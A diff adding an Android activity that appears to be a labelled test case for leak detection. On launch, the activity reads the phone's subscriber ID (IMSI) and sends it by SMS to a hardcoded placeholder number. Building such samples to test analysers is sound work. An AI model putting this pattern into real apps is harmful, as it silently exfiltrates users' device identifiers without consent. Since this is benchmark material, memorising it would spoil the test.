@@ -1,0 +1,24 @@
+// about       A builder is emptied before the value is appended.
+// leak        DEV_IMSI sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  private final StringBuilder line = new StringBuilder();
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
+    // Emptied first.
+    line.setLength(0);
+    line.append(phone.getSubscriberId());
+    line.append(" ready");
+    SmsManager.getDefault().sendTextMessage("+15550100", null, line.toString(), null, null);
+  }
+}
